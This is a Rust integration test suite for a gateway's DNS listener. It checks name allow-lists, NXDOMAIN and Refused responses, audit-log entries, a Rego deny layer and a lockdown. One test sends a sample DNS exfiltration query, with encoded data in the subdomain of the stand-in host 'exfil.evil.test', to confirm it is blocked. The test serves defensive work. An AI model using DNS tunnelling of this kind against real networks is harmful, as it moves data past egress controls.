//! The node's DNS listener, as a cell's resolver sees it over real UDP.

mod common;

use std::time::Duration;

use common::*;
use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RData, RecordType};
use tokio::net::UdpSocket;

async fn ask(server: std::net::SocketAddr, name: &str, qtype: RecordType) -> Message {
    let sock = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let mut m = Message::new(0x4242, MessageType::Query, OpCode::Query);
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), qtype));
    sock.send_to(&m.to_vec().unwrap(), server).await.unwrap();
    let mut buf = [0u8; 1500];
    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    Message::from_vec(&buf[..n]).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cells_resolve_only_what_they_may_reach() {
    let f = Fixture::start_with(|c| {
        c.dns = Some("127.0.0.1:0".parse().unwrap());
        c.pods
            .push(("127.0.0.1".parse().unwrap(), "agents".into(), "demo".into()));
    })
    .await;
    let dns = f.node().dns_addr.unwrap();
    let ok = ask(dns, "api.test.", RecordType::A).await;
    assert_eq!(ok.metadata.response_code, ResponseCode::NoError);
    let addrs: Vec<_> = ok
        .answers
        .iter()
        .filter_map(|r| match &r.data {
            RData::A(a) => Some(a.0),
            _ => None,
        })
        .collect();
    assert_eq!(addrs, vec![std::net::Ipv4Addr::LOCALHOST], "{ok:?}");

    let no = ask(dns, "evil.test.", RecordType::A).await;
    assert_eq!(no.metadata.response_code, ResponseCode::NXDomain);
    // The refusal was on disk before the NXDOMAIN left: read the file now, no waiting.
    let on_disk = std::fs::read_to_string(&f.audit).unwrap();
    assert!(
        on_disk
            .lines()
            .any(|l| l.contains("\"dns_name_not_allowed\"") && l.contains("\"evil.test\"")),
        "{on_disk}"
    );
    // Data smuggled in a TXT query to a name no capability allows.
    let exfil = ask(
        dns,
        "mzxw6ytboi2dmnzsgq3tmmrvgy.exfil.evil.test.",
        RecordType::TXT,
    )
    .await;
    assert_eq!(exfil.metadata.response_code, ResponseCode::Refused);
    f.wait_audit(|r| {
        r["front_door"] == "dns"
            && r["reason"] == "dns_name_not_allowed"
            && r["host"] == "evil.test"
    })
    .await;
    f.wait_audit(|r| {
        r["front_door"] == "dns" && r["reason"] == "dns_qtype_refused" && r["cell"] == "demo"
    })
    .await;
    let m = f.admin_get("/metrics").await.body;
    assert!(m.contains("cellgate_dns_refused_total 1"), "{m}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_is_decided_by_the_same_engine_layers_and_lockdown_included() {
    let f = Fixture::start_with(|c| {
        c.dns = Some("127.0.0.1:0".parse().unwrap());
        c.pods
            .push(("127.0.0.1".parse().unwrap(), "agents".into(), "demo".into()));
    })
    .await;
    let dns = f.node().dns_addr.unwrap();
    assert_eq!(
        ask(dns, "api.test.", RecordType::A)
            .await
            .metadata
            .response_code,
        ResponseCode::NoError
    );
    // A policy layer that denies the name for DNS: the capability still names it, the layer wins.
    std::fs::write(
        f.policies_dir.join("no-dns.rego"),
        "package cellgate.layers.nodns\nimport rego.v1\n\ndeny contains {\"reason\": \"no_lookup\", \"message\": \"api.test is not looked up by name\"} if {\n  input.request.protocol == \"dns\"\n  input.request.host == \"api.test\"\n}\n",
    )
    .unwrap();
    let mut refused = false;
    for _ in 0..100 {
        if ask(dns, "api.test.", RecordType::A)
            .await
            .metadata
            .response_code
            == ResponseCode::NXDomain
        {
            refused = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(refused, "the layer's deny did not reach DNS");
    let rec = f
        .wait_audit(|r| r["front_door"] == "dns" && r["host"] == "api.test")
        .await;
    assert!(
        rec["reasons"].to_string().contains("not looked up by name"),
        "{rec}"
    );
    // HTTP to it is unaffected (the layer is about DNS only).
    assert_eq!(
        f.https_get("api.test", "api.test", "/v1/a", "GET")
            .await
            .status,
        200
    );

    // The lockdown refuses names too.
    std::fs::remove_file(f.policies_dir.join("no-dns.rego")).unwrap();
    let mut back = false;
    for _ in 0..100 {
        if ask(dns, "api.test.", RecordType::A)
            .await
            .metadata
            .response_code
            == ResponseCode::NoError
        {
            back = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(back);
    f.node()
        .shared
        .lockdown
        .set(None, true, "drill", None)
        .unwrap();
    assert_eq!(
        ask(dns, "api.test.", RecordType::A)
            .await
            .metadata
            .response_code,
        ResponseCode::NXDomain
    );
}
